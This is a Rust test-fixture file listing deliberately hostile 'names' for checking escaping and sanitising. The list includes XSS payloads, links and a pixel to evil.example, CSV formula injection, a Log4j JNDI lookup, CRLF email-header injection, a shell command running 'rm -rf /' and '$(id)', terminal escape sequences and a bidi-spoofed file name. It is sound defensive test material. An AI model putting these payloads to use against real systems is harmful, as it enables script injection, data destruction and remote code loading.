//! Names that somebody may have chosen: each tries to be more than text somewhere.

/// Markup, formulas, links, terminals, layouts; then what is only unusual.
pub const ALL: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "\"><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "</td></tr></table></mj-text></mj-body></mjml>",
    "<!-- open",
    "--> closed ]]>",
    "&lt;b&gt;already escaped&amp;&#39;",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"https://evil.example/a\">here</a>",
    "javascript:alert(1)",
    "cid:verdict",
    "[click](https://evil.example/md)",
    "![pixel](https://evil.example/pixel.png)",
    "<https://evil.example/auto>",
    "https://evil.example/bare?a=1&b=2",
    "[ref]: https://evil.example/ref",
    "`code` **bold** _it_ ~~out~~ | cell | # head",
    "```\nfence\n```",
    "=HYPERLINK(\"https://evil.example/csv\",\"pay\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=2+2",
    "\u{ff1d}1\u{ff0b}1",
    "two\nlines\r\n- of a list",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example/osc\u{7}osc",
    "bell\u{7} null\u{0} del\u{7f} next\u{85}",
    "\u{202e}gpj.exe",
    "\u{2066}isolated\u{2069} \u{200b}zero\u{feff}",
    "{limit} {subject} {{mustache}} ${jndi:ldap://evil.example}",
    "%s %n %00 %0d%0aBcc: evil@evil.example",
    "; rm -rf / && $(id) `id`",
    "שלום עולם",
    "مرحبا بالعالم",
    "caf\u{e9} œuvre à Noël « garçon »",
    "cafe\u{301} Zalgo z\u{0334}\u{0321}\u{0358}",
    "\u{1f600} \u{1f3f3}\u{fe0f}\u{200d}\u{1f308} \u{1f469}\u{200d}\u{1f4bb}",
    "日本語のキュー",
    "a-name-of-two-hundred-characters-a-name-of-two-hundred-characters-a-name-of-two-hundred-characters-a-name-of-two-hundred-characters-a-name-of-two-hundred-characters-a-name-of-two-hundred-characters-200",
    "WITHOUT_A_PLACE_TO_BREAK_WITHOUT_A_PLACE_TO_BREAK_WITHOUT_A_PLACE_TO_BREAK_WITHOUT_A_PLACE_TO_BREAK",
];

/// The `n`th name: another each time, and as nasty.
#[must_use]
pub fn name(n: usize) -> String {
    let nasty = ALL.get(n % ALL.len()).copied().unwrap_or_default();
    match n / ALL.len() {
        0 => nasty.to_owned(),
        round => format!("{nasty} {round}"),
    }
}
